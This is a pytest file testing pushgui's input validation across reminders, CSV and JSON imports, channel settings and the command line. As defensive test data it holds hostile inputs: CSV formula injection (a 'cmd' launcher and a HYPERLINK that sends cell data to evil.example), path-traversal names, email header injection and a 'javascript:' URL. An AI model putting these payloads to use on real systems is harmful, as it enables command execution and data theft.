"""Bad input, everywhere: each row of docs/INPUTS.md not already covered by another test.

Real code paths only: the core functions the windows call, and the command line as a user
runs it (a real process on a real data folder). Rows that other test files already cover
name those tests in docs/INPUTS.md instead of being repeated here.
"""

from __future__ import annotations

import csv
import io
import json
import os
import sqlite3
import subprocess
import sys
from dataclasses import replace
from datetime import UTC, date, datetime
from pathlib import Path
from typing import Any

import pytest

from pushgui.core.channels.config import (
    AppriseConfig,
    DingTalkConfig,
    DiscordConfig,
    EmailConfig,
    FeishuConfig,
    NtfyConfig,
    SlackConfig,
    TeamsConfig,
    TelegramConfig,
    WebhookConfig,
    WeComConfig,
)
from pushgui.core.channels.urls import parse_webhook_url
from pushgui.core.channels.validation import config_warnings, validate_config
from pushgui.core.errors import SpecError
from pushgui.core.people.contacts import ContactRecord, validate_contact
from pushgui.core.people.contacts_csv import (
    MAX_COLUMNS,
    MAX_ROWS,
    CsvError,
    export_csv,
    guess_mapping,
    plan_import,
    read_csv,
)
from pushgui.core.pushes.service import PushService
from pushgui.core.pushes.spec import Message, PushOptions, PushSpec, Target, spec_to_dict
from pushgui.core.pushes.validation import validate_spec
from pushgui.core.schedule.crontab import translate_crontab
from pushgui.core.schedule.spec import (
    CalendarSpec,
    IntervalSpec,
    OnceSpec,
    trigger_from_dict,
    trigger_to_dict,
)
from pushgui.core.schedule.validate import validate_trigger
from pushgui.core.store.db import open_database
from pushgui.core.transfer.document import (
    FORMAT,
    MAX_PUSHES,
    VERSION,
    ImportFileError,
    parse_document,
    parse_import,
    write_export,
)
from tests.helpers import weekdays_at_nine

# -- helpers -------------------------------------------------------------------------------


def cli(data_dir: Path, *args: str) -> subprocess.CompletedProcess[str]:
    """pushgui as a user runs it; never raises on a non-zero exit."""
    env = dict(os.environ, QT_QPA_PLATFORM="offscreen")
    return subprocess.run(
        [sys.executable, "-m", "pushgui", "--data-dir", str(data_dir), *args],
        capture_output=True,
        text=True,
        timeout=60,
        env=env,
    )


def assert_clean_failure(result: subprocess.CompletedProcess[str], code: int, says: str) -> None:
    assert result.returncode == code, result.stderr
    assert "Traceback" not in result.stderr
    assert says in result.stderr


def push_names(data_dir: Path) -> list[str]:
    path = data_dir / "pushgui.sqlite3"
    with sqlite3.connect(f"file:{path}?mode=ro", uri=True, timeout=5) as connection:
        return [row[0] for row in connection.execute("SELECT name FROM pushes ORDER BY id")]


@pytest.fixture
def seeded(data_dir: Path) -> Path:
    """A data folder whose database already holds one push, "Existing"."""
    db = open_database(data_dir)
    try:
        PushService(db).save_new([weekdays_at_nine("Existing")])
    finally:
        db.close()
    return data_dir


def document(*pushes: Any, **overrides: Any) -> str:
    body: dict[str, Any] = {"format": FORMAT, "version": VERSION, "pushes": list(pushes)}
    body.update(overrides)
    return json.dumps(body)


def good_push() -> dict[str, Any]:
    return spec_to_dict(weekdays_at_nine("Good"))


def messages(errors: Any) -> dict[str, str]:
    return {e.field: e.message for e in errors}


# -- reminder editor (validate_spec, what the editor shows inline) ------------------------

SPEC = weekdays_at_nine("Standup")


@pytest.mark.parametrize(
    ("spec", "field", "says"),
    [
        (replace(SPEC, name="x" * 201), "name", "Keep the name under 200 characters"),
        (
            replace(SPEC, message=Message("t" * 501)),
            "message.title",
            "Keep the title under 500 characters",
        ),
        (
            replace(SPEC, message=Message("Title", "b" * 100_001)),
            "message.body",
            "Keep the message under 100000 characters",
        ),
        (replace(SPEC, targets=()), "targets", "Choose at least one recipient"),
        (
            replace(SPEC, targets=(Target("email", None, (1,)),)),
            "targets[0]",
            "Choose a channel to send through",
        ),
        (
            replace(SPEC, targets=(Target("email", 1),)),
            "targets[0]",
            "Choose contacts or groups to email",
        ),
        (
            replace(SPEC, options=PushOptions(retries=11)),
            "options.retries",
            "Retry between 0 and 10 times",
        ),
        (
            replace(SPEC, options=PushOptions(retries=-1)),
            "options.retries",
            "Retry between 0 and 10 times",
        ),
        (
            replace(SPEC, options=PushOptions(retry_delay=4)),
            "options.retry_delay",
            "Wait between 5 seconds and a day",
        ),
        (
            replace(SPEC, options=PushOptions(retry_delay=86_401)),
            "options.retry_delay",
            "Wait between 5 seconds and a day",
        ),
        (
            replace(SPEC, options=PushOptions(missed="late", max_late=59)),
            "options.max_late",
            "Choose between 1 minute and 7 days",
        ),
        (
            replace(SPEC, options=PushOptions(missed="late", max_late=7 * 86_400 + 1)),
            "options.max_late",
            "Choose between 1 minute and 7 days",
        ),
        (
            replace(SPEC, message=Message("Hi ${ name}")),
            "message.title",
            "${ name} is not a placeholder; write it like ${name}",
        ),
        (
            replace(SPEC, message=Message("Hi", html="<b>${}</b>")),
            "message.html",
            "${} is not a placeholder",
        ),
    ],
    ids=[
        "name-too-long",
        "title-too-long",
        "body-too-long",
        "no-recipient",
        "target-without-channel",
        "email-without-contacts",
        "retries-too-many",
        "retries-negative",
        "retry-delay-too-short",
        "retry-delay-too-long",
        "max-late-too-short",
        "max-late-too-long",
        "malformed-placeholder-title",
        "malformed-placeholder-html",
    ],
)
def test_a_bad_reminder_field_is_named_in_plain_words(spec, field, says):
    found = messages(validate_spec(spec))
    assert field in found, found
    assert says in found[field]


def test_unknown_placeholders_are_errors_only_when_the_contact_fields_are_known():
    spec = replace(SPEC, message=Message("Hello ${name}", "From ${City} and ${Dept}"))
    assert validate_spec(spec) == []  # an import may come before its contacts
    found = messages(validate_spec(spec, custom_fields=["City"]))
    assert found == {"message.body": "Unknown placeholder ${Dept}: use a contact field or ${name}"}


def test_dollar_signs_that_start_no_placeholder_are_plain_text():
    spec = replace(SPEC, message=Message("Costs $5", "$$literal and 100$"))
    assert validate_spec(spec, custom_fields=[]) == []


# -- schedule editors ----------------------------------------------------------------------


@pytest.mark.parametrize("name", ["../../etc/passwd", "localtime", "UTC\x00", "/usr/share"])
def test_a_zone_name_that_is_a_path_or_a_machine_file_is_unknown(name):
    errors = validate_trigger(CalendarSpec(timezone=name))
    assert messages(errors) == {"timezone": f'Unknown time zone "{name}"'}


# -- JSON import: wrong types in every field of a push ------------------------------------


def _set(data: Any, path: str, value: Any) -> None:
    *parents, last = path.split(".")
    for key in parents:
        data = data[int(key)] if isinstance(data, list) else data[key]
    if isinstance(data, list):
        data[int(last)] = value
    else:
        data[last] = value


WRONG_TYPES: list[tuple[str, Any, str, str]] = [
    # (where in the push, bad value, the field the error names, what it says)
    ("name", 42, "name", "must be text"),
    ("enabled", "yes", "enabled", "must be true or false"),
    ("message", "hello", "message", "must be an object"),
    ("message.title", ["a"], "message.title", "must be text"),
    ("message.body", None, "message.body", "must be text"),
    ("message.html", 1.5, "message.html", "must be text"),
    ("message.attachments", "/etc/passwd", "message.attachments", "list of file paths"),
    ("targets", {"kind": "desktop"}, "targets", "must be a list"),
    ("targets.0", "desktop", "targets[0]", "must be an object with a kind"),
    ("targets.0.kind", 7, "targets[0]", "must be an object with a kind"),
    ("targets.0.channel_id", "1", "targets[0].channel_id", "must be a whole number"),
    ("targets.0.channel_id", True, "targets[0].channel_id", "must be a whole number"),
    ("targets.0.contact_ids", [1, "2"], "targets[0].contact_ids", "list of whole numbers"),
    ("targets.0.group_ids", 3, "targets[0].group_ids", "list of whole numbers"),
    ("options", [], "options", "must be an object"),
    ("options.missed", "sometimes", "options.missed", "must be once, all, skip or late"),
    ("options.max_late", "1h", "options.max_late", "must be a whole number"),
    ("options.retries", 2.5, "options.retries", "must be a whole number"),
    ("options.retries", float("nan"), "options.retries", "must be a whole number"),
    ("options.retry_delay", False, "options.retry_delay", "must be a whole number"),
    ("trigger", "every day", "trigger.kind", "must be date, interval or cron"),
    ("trigger.kind", "weekly", "trigger.kind", "must be date, interval or cron"),
    ("trigger.timezone", 8, "trigger.timezone", "must be text"),
    ("trigger.times", "09:00", "trigger.times", "must be a list of text values"),
    ("trigger.times", ["9 am"], "trigger.times", "is not a time such as 09:30"),
    ("trigger.day_rule", "sometimes", "trigger.day_rule", "must be one of every_day"),
    ("trigger.week_days", [1, 2], "trigger.week_days", "must be a list of text values"),
    ("trigger.month_days", ["1"], "trigger.month_days", "list of whole numbers"),
    ("trigger.nth", "first", "trigger.nth", "must be a whole number"),
    ("trigger.nth_weekday", 0, "trigger.nth_weekday", "must be text"),
    ("trigger.months", [True], "trigger.months", "list of whole numbers"),
    ("trigger.start_date", "24/12/2026", "trigger.start_date", "must be a date such as"),
    ("trigger.crontab", ["0", "9"], "trigger.crontab", "must be text"),
]


@pytest.mark.parametrize(
    ("path", "value", "field", "says"), WRONG_TYPES, ids=[f"{p}={v!r}" for p, v, *_ in WRONG_TYPES]
)
def test_a_wrong_type_in_any_push_field_is_named_and_nothing_is_imported(path, value, field, says):
    bad = good_push()
    _set(bad, path, value)
    with pytest.raises(ImportFileError) as caught:
        parse_document(document(good_push(), bad))
    found = messages(caught.value.errors)
    assert f"pushes[1].{field}" in found or f"pushes[1] ('Good').{field}" in found, found
    assert says in " ".join(found.values())
    assert not any(f.startswith("pushes[0]") for f in found)


@pytest.mark.parametrize(
    ("trigger", "field", "says"),
    [
        ({"kind": "date", "at": "tomorrow", "timezone": "UTC"}, "at", "date and time such as"),
        (
            {"kind": "date", "at": "2099-01-01T09:00+08:00", "timezone": "UTC"},
            "at",
            "without a UTC offset",
        ),
        ({"kind": "interval", "unit": "hours", "start": "2026-01-01T09:00"}, "every", "missing"),
        (
            {"kind": "interval", "every": 1, "unit": "fortnights", "start": "2026-01-01T09:00"},
            "unit",
            "must be minutes, hours, days or weeks",
        ),
        (
            {"kind": "interval", "every": "1", "unit": "days", "start": "2026-01-01T09:00"},
            "every",
            "must be a whole number",
        ),
        (
            {"kind": "interval", "every": 1, "unit": "days", "start": "2026-01-01", "end": 5},
            "end",
            "date and time such as",
        ),
    ],
    ids=["at-not-a-date", "at-with-offset", "every-missing", "unit-unknown", "every-text", "end"],
)
def test_wrong_types_in_one_off_and_interval_triggers_are_named(trigger, field, says):
    bad = dict(good_push(), trigger=trigger)
    with pytest.raises(ImportFileError) as caught:
        parse_document(document(bad))
    found = messages(caught.value.errors)
    assert says in found[f"pushes[0] ('Good').trigger.{field}"], found


# -- JSON import: hostile or foreign files (core) ----------------------------------------


@pytest.mark.parametrize(
    ("content", "says"),
    [
        (document(version=0), "The version must be a whole number"),
        (document(version=-1), "The version must be a whole number"),
        (document(version=True), "The version must be a whole number"),
        (document(version=1.0), "The version must be a whole number"),
        (document(version=None), "The version must be a whole number"),
        (json.dumps({"format": FORMAT, "pushes": []}), "The version must be a whole number"),
        (document(pushes=None), "must be a list"),
        ('{"format": "pushgui-export", "version": ' + "9" * 5000 + "}", "not valid JSON"),
        ("", "not valid JSON"),
        ('"pushgui-export"', "not a pushgui export"),
        ("null", "not a pushgui export"),
    ],
    ids=[
        "version-0",
        "version-negative",
        "version-true",
        "version-float",
        "version-null",
        "version-missing",
        "pushes-null",
        "5000-digit-number",
        "empty-file",
        "a-bare-string",
        "null",
    ],
)
def test_foreign_documents_are_refused_with_a_plain_reason(content, says):
    with pytest.raises(ImportFileError, match=says):
        parse_document(content)


def test_more_pushes_than_the_limit_are_refused_before_any_is_read():
    with pytest.raises(ImportFileError, match=f"holds more than {MAX_PUSHES} reminders"):
        parse_document(document(*([{}] * (MAX_PUSHES + 1))))


def test_a_byte_order_mark_and_unknown_extra_keys_are_accepted():
    push = dict(good_push(), comment="from a newer pushgui")
    data = "\ufeff".encode() + document(push, exported_by="someone").encode()
    [spec] = parse_document(data)
    assert spec.name == "Good"


# -- JSON import through the command line: refused cleanly, nothing written --------------


def _deep(depth: int) -> str:
    return document(good_push(), extra="[" * depth + "]" * depth)


def _hostile_files() -> list[tuple[str, bytes, str]]:
    wrong = dict(good_push(), name=42, enabled="yes", options=[], trigger="every day")
    return [
        (
            "25-mb",
            b'{"format": "pushgui-export", "version": 1, "pushes": ['
            + b" " * (25 * 1024 * 1024)
            + b"]}",
            "The file is larger than 20 MB",
        ),
        (
            "nested-100000-deep",
            ("[" * 100_000 + "]" * 100_000).encode(),
            "not valid JSON",
        ),
        ("nested-40-deep", json.dumps({"x": json.loads("[" * 40 + "]" * 40)}).encode(), "nested"),
        ("json-array", json.dumps([good_push()]).encode(), "This is not a pushgui export"),
        ("newer-version", document(good_push(), version=VERSION + 1).encode(), "newer pushgui"),
        ("wrong-types", document(good_push(), wrong).encode(), "pushes[1].name: must be text"),
        (
            "gb18030-text",
            document(dict(good_push(), name="站会"))
            .replace("\\u7ad9\\u4f1a", "站会")
            .encode("gb18030"),
            "not valid JSON",
        ),
        ("png-image", b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR" + bytes(range(256)), "not valid JSON"),
    ]


@pytest.mark.parametrize(
    ("content", "says"),
    [(c, s) for _, c, s in _hostile_files()],
    ids=[name for name, *_ in _hostile_files()],
)
def test_a_hostile_import_file_is_refused_and_the_database_is_unchanged(
    seeded, tmp_path, content, says
):
    path = tmp_path / "hostile.json"
    path.write_bytes(content)
    result = cli(seeded, "import", str(path))
    assert_clean_failure(result, 5, f"nothing was imported from {path}")
    assert says in result.stderr
    assert push_names(seeded) == ["Existing"]


# -- command line --------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("args", "says"),
    [
        (["frobnicate"], "invalid choice: 'frobnicate'"),
        (["import"], "the following arguments are required: file"),
        (["export"], "the following arguments are required: file"),
        (["run"], "'run' needs --headless"),
        (["--no-such-option"], "unrecognized arguments: --no-such-option"),
    ],
    ids=[
        "unknown-command",
        "import-without-file",
        "export-without-file",
        "run-no-headless",
        "unknown-option",
    ],
)
def test_bad_arguments_give_usage_and_exit_2(data_dir, args, says):
    result = cli(data_dir, *args)
    assert_clean_failure(result, 2, says)
    assert "usage: pushgui" in result.stderr


def test_importing_a_file_that_does_not_exist(seeded, tmp_path):
    result = cli(seeded, "import", str(tmp_path / "gone.json"))
    assert_clean_failure(result, 5, "No such file or directory")
    assert push_names(seeded) == ["Existing"]


def test_importing_a_folder_instead_of_a_file(seeded, tmp_path):
    result = cli(seeded, "import", str(tmp_path))
    assert_clean_failure(result, 5, "Is a directory")
    assert push_names(seeded) == ["Existing"]


@pytest.mark.skipif(os.name != "posix" or os.geteuid() == 0, reason="needs POSIX, not root")
def test_importing_a_file_without_read_permission(seeded, tmp_path):
    path = tmp_path / "locked.json"
    path.write_text(document(good_push()), encoding="utf-8")
    path.chmod(0)
    result = cli(seeded, "import", str(path))
    assert_clean_failure(result, 5, "Permission denied")
    assert push_names(seeded) == ["Existing"]


def test_exporting_into_a_folder_that_does_not_exist(seeded, tmp_path):
    target = tmp_path / "missing" / "out.json"
    result = cli(seeded, "export", str(target))
    assert_clean_failure(result, 5, f"cannot write {target}")
    assert not target.parent.exists()


# -- database file -------------------------------------------------------------------------


def test_a_file_that_is_not_a_database_is_moved_aside_and_reported(data_dir):
    path = data_dir / "pushgui.sqlite3"
    path.write_text("hello, I am a note, not a database\n", encoding="utf-8")
    result = cli(data_dir, "list")
    assert result.returncode == 0, result.stderr
    assert "Traceback" not in result.stderr
    assert "was moved to" in result.stderr and "started with an empty one" in result.stderr
    [aside] = data_dir.glob("pushgui.sqlite3.corrupt-*")
    assert aside.read_text(encoding="utf-8") == "hello, I am a note, not a database\n"
    assert "No reminders yet." in result.stdout


# -- contacts and CSV import ---------------------------------------------------------------


@pytest.mark.parametrize(
    ("contact", "field", "says"),
    [
        (ContactRecord("n" * 201), "name", "Keep the name under 200 characters"),
        (ContactRecord("Ann", "ann@example"), "email", "is not an email address"),
        (ContactRecord("Ann", "ann example.com"), "email", "is not an email address"),
        (ContactRecord("Ann", fields={" ": "x"}), "fields", "A custom field needs a name"),
        (ContactRecord("Ann", fields={"email": "x"}), "fields", '"email" is a built-in field'),
    ],
    ids=["name-too-long", "email-no-dot", "email-space", "blank-field-name", "reserved-field"],
)
def test_a_bad_contact_field_is_named(contact, field, says):
    found = messages(validate_contact(contact))
    assert says in found[field]


def _csv(headers: list[str], *rows: list[str]) -> bytes:
    out = io.StringIO()
    csv.writer(out, lineterminator="\r\n").writerows([headers, *rows])
    return out.getvalue().encode()


@pytest.mark.parametrize(
    ("data", "says"),
    [
        (
            _csv([f"c{i}" for i in range(300)], ["v"] * 300),
            f"The file has more than {MAX_COLUMNS} columns",
        ),
        (
            b"name,email\r\n" + b"Ann,a@example.com\r\n" * (MAX_ROWS + 1),
            f"The file has more than {MAX_ROWS} rows",
        ),
        (b"name,notes\r\n" + b"a," + b"x" * (10 * 1024 * 1024) + b"\r\n", "larger than 10 MB"),
        (b'name,notes\r\nAnn,"' + b"x" * 200_000 + b'"\r\n', "The file is not valid CSV"),
        ("Name\tEmail\r\nAnn\ta@example.com\r\n".encode("utf-16"), "This is not a text file"),
        (b"PK\x03\x04" + bytes(range(1, 256)) * 40, "neither UTF-8 nor GB18030"),
        (b"   \r\n\t\r\n", "The file is empty"),
    ],
    ids=[
        "300-columns",
        "too-many-rows",
        "over-10-mb",
        "cell-over-128-kb",
        "utf16-with-nul-bytes",
        "binary-not-utf8-nor-gb18030",
        "only-blank-lines",
    ],
)
def test_a_csv_file_that_cannot_be_imported_gets_a_plain_reason(data, says):
    with pytest.raises(CsvError, match=says):
        read_csv(data)


FORMULAS = [
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
    "+SUM(1+1)",
    "-2+3",
    "@SUM(A1:A2)",
]


def test_formula_cells_in_an_imported_csv_stay_text_and_are_neutralised_on_export():
    rows = [[f"Person {i}", f"p{i}@example.com", cell] for i, cell in enumerate(FORMULAS)]
    table = read_csv(_csv(["Name", "Email", "Note"], *rows))
    plan = plan_import(table, guess_mapping(table.headers), [])
    imported = plan.importable
    assert [c.fields["Note"] for c in imported] == FORMULAS  # kept as the text it was
    exported = read_csv(export_csv(imported).encode("utf-8-sig"))
    notes = [row[exported.headers.index("Note")] for row in exported.rows]
    assert notes == ["'" + cell for cell in FORMULAS]  # a spreadsheet shows text, runs nothing
    again = plan_import(exported, guess_mapping(exported.headers), []).importable
    assert again == imported  # and pushgui reads its own export back unchanged


def test_a_csv_with_a_header_and_no_contacts_has_nothing_to_import():
    table = read_csv(b"Name,Email\r\n")
    assert table.rows == []
    assert plan_import(table, guess_mapping(table.headers), []).importable == []


def test_rows_shorter_than_the_header_are_padded_with_empty_cells():
    table = read_csv(b"Name,Email,City\r\nAnn\r\nBob,b@example.com\r\n")
    assert table.rows == [["Ann", "", ""], ["Bob", "b@example.com", ""]]


# -- channel forms -------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("config", "field", "says"),
    [
        (
            EmailConfig(host="smtp.example.com", sender_address="a@example.com", port=70000),
            "port",
            "between 1 and 65535",
        ),
        (
            EmailConfig(host="smtp.example.com", sender_address="a@example.com", timeout=0),
            "timeout",
            "between 1 and 600 seconds",
        ),
        (
            EmailConfig(host="smtp.example.com", sender_address="a@example.com", security="tls"),  # type: ignore[arg-type]
            "security",
            "Choose STARTTLS, SSL/TLS or none",
        ),
        (
            EmailConfig(host="smtp.example.com", sender_address="a@example.com", ca_file="/no"),
            "ca_file",
            "not a readable PEM certificate",
        ),
        (
            EmailConfig(host="https://smtp.example.com/", sender_address="a@example.com"),
            "host",
            "without spaces or slashes",
        ),
        (
            EmailConfig(host="smtp.example.com", sender_address="a@example.com\r\nBcc: x@y.z"),
            "sender_address",
            "is not an email address",
        ),
        (DingTalkConfig(access_token=""), "access_token", "Paste the robot's webhook address"),
        (DingTalkConfig(access_token="t", api_url="ftp://x"), "api_url", "start with https://"),
        (
            DingTalkConfig(access_token="t", msgtype="html"),  # type: ignore[arg-type]
            "msgtype",
            "Choose text or Markdown",
        ),
        (WeComConfig(key="abc def"), "key", "Remove the spaces"),
        (FeishuConfig(token=""), "token", "Paste the bot's webhook address"),
        (
            FeishuConfig(token="t", region="slack"),  # type: ignore[arg-type]
            "region",
            "Choose Feishu or Lark",
        ),
        (SlackConfig(webhook_url="hooks.slack.com/x"), "webhook_url", "start with https://"),
        (DiscordConfig(webhook_url=""), "webhook_url", "Paste the Discord webhook address"),
        (TeamsConfig(webhook_url="https://[::1"), "webhook_url", "This is not a web address"),
        (TelegramConfig(bot_token="12345", chat_id="1"), "bot_token", "123456:ABC-DEF"),
        (TelegramConfig(bot_token="1:A", chat_id=""), "chat_id", "Enter the chat id"),
        (NtfyConfig(topic="my topic"), "topic", "letters, digits, - and _"),
        (NtfyConfig(topic="t", priority=0), "priority", "from 1 (lowest) to 5 (highest)"),
        (NtfyConfig(topic="t", server="ntfy.sh"), "server", "start with https://"),
        (
            WebhookConfig(url="https://x.example", method="GET"),  # type: ignore[arg-type]
            "method",
            "Choose POST or PUT",
        ),
        (
            WebhookConfig(url="https://x.example", headers="Authorization Bearer x"),
            "headers",
            "Line 1: write each header as Name: value",
        ),
        (WebhookConfig(url=""), "url", "Enter the address to send to"),
        (AppriseConfig(url="tgram-token-chat"), "url", "Enter an Apprise address"),
    ],
    ids=[
        "email-port",
        "email-timeout",
        "email-security",
        "email-ca-file",
        "email-host",
        "email-sender",
        "dingtalk-token",
        "dingtalk-api-url",
        "dingtalk-msgtype",
        "wecom-key",
        "feishu-token",
        "feishu-region",
        "slack-url",
        "discord-url",
        "teams-url",
        "telegram-token",
        "telegram-chat",
        "ntfy-topic",
        "ntfy-priority",
        "ntfy-server",
        "webhook-method",
        "webhook-headers",
        "webhook-url",
        "apprise-url",
    ],
)
def test_a_bad_channel_field_is_named_in_plain_words(config, field, says):
    found = messages(validate_config(config))
    assert field in found, found
    assert says in found[field]


@pytest.mark.parametrize(
    ("url", "says"),
    [
        ("https://oapi.dingtalk.com:99999/robot/send?access_token=x", "This is not a web address"),
        ("https://[::1/hook", "This is not a web address"),
        ("https://qyapi.weixin.qq.com/cgi-bin/webhook/send", "no key"),
        ("https://discord.com/api/webhooks/123", "discord.com/api/webhooks/id/token"),
        ("https://ntfy.sh/", "ntfy.sh/your-topic"),
        ("javascript:alert(1)", "must start with https://"),
        ("https://", "This is not a web address"),
    ],
    ids=["bad-port", "bad-ipv6", "wecom-no-key", "discord-no-token", "ntfy-no-topic", "js", "bare"],
)
def test_a_pasted_address_that_cannot_be_used_says_why(url, says):
    with pytest.raises(SpecError) as caught:
        parse_webhook_url(url)
    [error] = caught.value.errors
    assert error.field == "url" and says in error.message


def test_now_is_the_reference_for_past_one_off_times_in_an_import():
    # A one-off whose time has passed ran where it came from: it comes in paused, and says so.
    past = dict(good_push(), trigger={"kind": "date", "at": "2020-01-01T09:00", "timezone": "UTC"})
    imported = parse_import(document(past), now=datetime(2026, 1, 1, tzinfo=UTC))
    assert [spec.enabled for spec in imported.specs] == [False]
    assert imported.finished == ["pushes[0] ('Good')"]
    still_due = parse_import(document(past), now=datetime(2019, 12, 31, tzinfo=UTC))
    assert [spec.enabled for spec in still_due.specs] == [True] and still_due.finished == []


def test_an_unencrypted_address_is_allowed_with_a_warning_unless_it_is_local():
    [warning] = config_warnings(WebhookConfig(url="http://hooks.example/x"))
    assert (warning.field, warning.message) == ("url", "This address is not encrypted (http)")
    assert config_warnings(WebhookConfig(url="http://127.0.0.1:8080/x")) == []


# -- inputs that used to crash or slip through ------------------------------------------------


def test_a_data_dir_that_is_a_file_is_a_clear_error(tmp_path):
    afile = tmp_path / "afile"
    afile.write_text("not a folder")
    for args in (["list"], ["export", str(tmp_path / "x.json")]):
        result = subprocess.run(
            [sys.executable, "-m", "pushgui", "--data-dir", str(afile), *args],
            capture_output=True,
            text=True,
            timeout=60,
        )
        assert result.returncode == 2
        assert "cannot use" in result.stderr and "data folder" in result.stderr
        assert "Traceback" not in result.stderr


@pytest.mark.parametrize("line", ["² * * * *", "9" * 5000 + " * * * *", "*/٣ * * * *", "١ * * * *"])
def test_crontab_digits_must_be_plain_ascii(line):
    with pytest.raises(SpecError) as caught:
        translate_crontab(line)
    assert caught.value.errors[0].field == "crontab"


@pytest.mark.parametrize(
    "spec",
    [
        OnceSpec(datetime(9999, 12, 31, 23, 59), "America/New_York"),
        CalendarSpec("America/New_York", start_date=date(9999, 12, 31)),
        IntervalSpec(1, "days", datetime(1, 1, 1, 9, 0), "UTC"),
    ],
)
def test_dates_at_the_ends_of_the_calendar_are_refused_not_crashed(spec):
    errors = validate_trigger(spec)
    assert errors and "between 1970 and 9998" in errors[0].message


def test_text_that_is_not_valid_unicode_is_refused():
    doc = json.dumps(
        {"format": FORMAT, "version": VERSION, "pushes": [{"name": "\ud800x"}]}, ensure_ascii=True
    )
    with pytest.raises(ImportFileError, match="not valid Unicode"):
        parse_document(doc)


@pytest.mark.parametrize("data", [b",,,\n,,,\n", b";;\n", b"\t\t\n"])
def test_a_csv_of_only_separators_is_empty(data):
    with pytest.raises(CsvError, match="empty"):
        read_csv(data)


def test_a_nul_byte_anywhere_in_a_csv_is_refused():
    data = b"name,email\n" + b"a,b@example.com\n" * 400 + b"x\x00y,z@example.com\n"
    with pytest.raises(CsvError, match="not a text file"):
        read_csv(data)


@pytest.mark.parametrize("value", [20261224, ["2026-12-24"], {"d": 1}])
def test_a_date_that_is_not_text_is_an_error(value):
    data = trigger_to_dict(CalendarSpec("UTC"))
    data["end_date"] = value
    with pytest.raises(SpecError) as caught:
        trigger_from_dict(data)
    assert caught.value.errors[0].field == "end_date"


def test_a_failed_export_leaves_no_temporary_file(tmp_path):
    place = tmp_path / "exports"
    target = place / "folder"
    target.mkdir(parents=True)
    with pytest.raises(OSError):
        write_export(target, [])
    assert sorted(p.name for p in place.iterdir()) == ["folder"]


@pytest.mark.parametrize("kind", ["fax", "", "DESKTOP"])
def test_an_unknown_target_kind_is_refused(kind):
    spec = PushSpec("x", Message("t"), CalendarSpec("UTC"), targets=(Target(kind, 1),))
    assert any(e.field == "targets[0]" for e in validate_spec(spec))


@pytest.mark.parametrize("name", ["a\nb", "red\x1b[31m", "tab\there"])
def test_control_characters_in_names_and_titles_are_refused(name):
    spec = PushSpec(name, Message(name), CalendarSpec("UTC"))
    fields = {e.field for e in validate_spec(spec)}
    assert {"name", "message.title"} <= fields


@pytest.mark.parametrize(
    ("config", "field"),
    [
        (
            EmailConfig(host="h.example.com", sender_address="a@example.com", timeout=float("nan")),
            "timeout",
        ),
        (
            EmailConfig(host="h.example.com", sender_address="a@example.com", timeout=float("inf")),
            "timeout",
        ),
        (
            EmailConfig(
                host="h.example.com",
                sender_address="a@example.com",
                sender_name="x\r\nBcc: e@x.org",
            ),
            "sender_name",
        ),
        (WebhookConfig(url="https://x.com:99999/"), "url"),
        (WebhookConfig(url="https://exa mple.com/"), "url"),
        (WebhookConfig(url="https://exa\nmple.com/"), "url"),
        (WebhookConfig(url="https://example.com/", headers="Naïve: 1"), "headers"),
    ],
)
def test_channel_settings_that_would_only_fail_when_sending_are_refused_now(config, field):
    assert field in {e.field for e in validate_config(config)}
